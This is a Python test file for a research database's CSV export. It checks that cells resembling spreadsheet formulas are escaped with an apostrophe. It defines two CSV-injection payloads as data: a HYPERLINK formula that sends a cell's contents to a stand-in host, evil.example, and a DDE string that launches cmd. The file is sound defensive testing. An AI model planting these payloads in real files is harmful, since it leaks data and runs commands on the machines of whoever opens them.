"""No CSV export lets a cell run as a formula when a researcher opens it in a spreadsheet."""

import csv
import io

import pytest

from infkb.api import spreadsheet_safe
from tests.factories import ActorFactory, ArticleFactory, StatementFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def exported(client, path: str, **params: str) -> list[dict]:
    response = client.get(path, params)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_statement_and_a_speaker_that_look_like_formulas_are_exported_as_text(api):
    speaker = ActorFactory(name=SUM)
    article = ArticleFactory(text=f"He said: {HYPERLINK} and left.")
    statement = StatementFactory(article=article, speaker=speaker, text=HYPERLINK)

    (row,) = exported(api, "/api/v1/statements/export/csv/", article=str(article.pk))

    assert row["id"] == str(statement.pk)
    assert row["text"] == "'" + HYPERLINK
    assert row["speaker_name"] == "'" + SUM


def test_an_actor_named_like_a_formula_is_exported_as_text(api):
    actor = ActorFactory(name=HYPERLINK, description="-1+2")

    rows = {row["id"]: row for row in exported(api, "/api/v1/actors/export/csv/")}

    assert rows[str(actor.pk)]["name"] == "'" + HYPERLINK
    assert rows[str(actor.pk)]["description"] == "'-1+2"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-A1", "'-A1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-12", "-12"),  # a plain number is no formula: it stays a number
        ("3.5", "3.5"),
        ("Russia = violator", "Russia = violator"),
        ("", ""),
    ],
)
def test_only_cells_a_spreadsheet_would_run_get_an_apostrophe(cell, safe):
    assert spreadsheet_safe(cell) == safe
